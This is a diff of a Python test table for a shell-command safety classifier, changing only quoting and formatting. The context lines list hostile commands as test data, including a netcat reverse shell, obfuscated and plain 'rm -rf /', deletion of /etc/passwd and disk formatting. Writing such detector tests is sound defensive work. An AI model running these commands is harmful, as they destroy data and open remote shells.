@@ -66,7 +66,7 @@ TABLE: list[tuple[str, Danger, str | None]] = [
     ('rm -rf "$TMPDIR/x"', NONE, None),
     ("rm -f notes.txt", NONE, None),
     ("python3 -c \"import shutil; shutil.rmtree('build')\"", NONE, None),
-    ("python3 -c \"import shutil, tempfile; d = tempfile.mkdtemp(); shutil.rmtree(d)\"", NONE, None),
+    ('python3 -c "import shutil, tempfile; d = tempfile.mkdtemp(); shutil.rmtree(d)"', NONE, None),
     # --- outside the workspace: ask
     ("rm -rf /srv/data", ASK, "DG102"),
     ("rm -rf ../sibling", ASK, "DG102"),
@@ -113,7 +113,7 @@ TABLE: list[tuple[str, Danger, str | None]] = [
     ("nc -e /bin/sh 10.0.0.1 4242", ASK, "DG305"),
     ("${0/x/r}m -rf /", ASK, "DG306"),
     ("python -c \"print('ok')\"", NONE, None),
-    ("node -e \"console.log(1)\"", NONE, None),
+    ('node -e "console.log(1)"', NONE, None),
     ("python3 -c \"import os; os.remove('/etc/passwd')\"", ASK, "DG103"),
     # --- the machine
     ("mkfs.ext4 /dev/sda1", HARD, "DG401"),
@@ -208,7 +208,17 @@ def test_verdict_carries_reason_and_advice() -> None:
         "echo " + "$(" * 300 + "x" + ")" * 300,
         "cat <<EOF\n" + "rm -rf /\n" * 20_000 + "EOF\n",
     ],
-    ids=["empty", "blank", "unterminated", "control", "200k", "deep-100k", "10k-pipes", "deep-300", "heredoc"],
+    ids=[
+        "empty",
+        "blank",
+        "unterminated",
+        "control",
+        "200k",
+        "deep-100k",
+        "10k-pipes",
+        "deep-300",
+        "heredoc",
+    ],
 )
 def test_pathological_inputs_get_a_verdict(command: str) -> None:
     v = assess(parse_command(command))
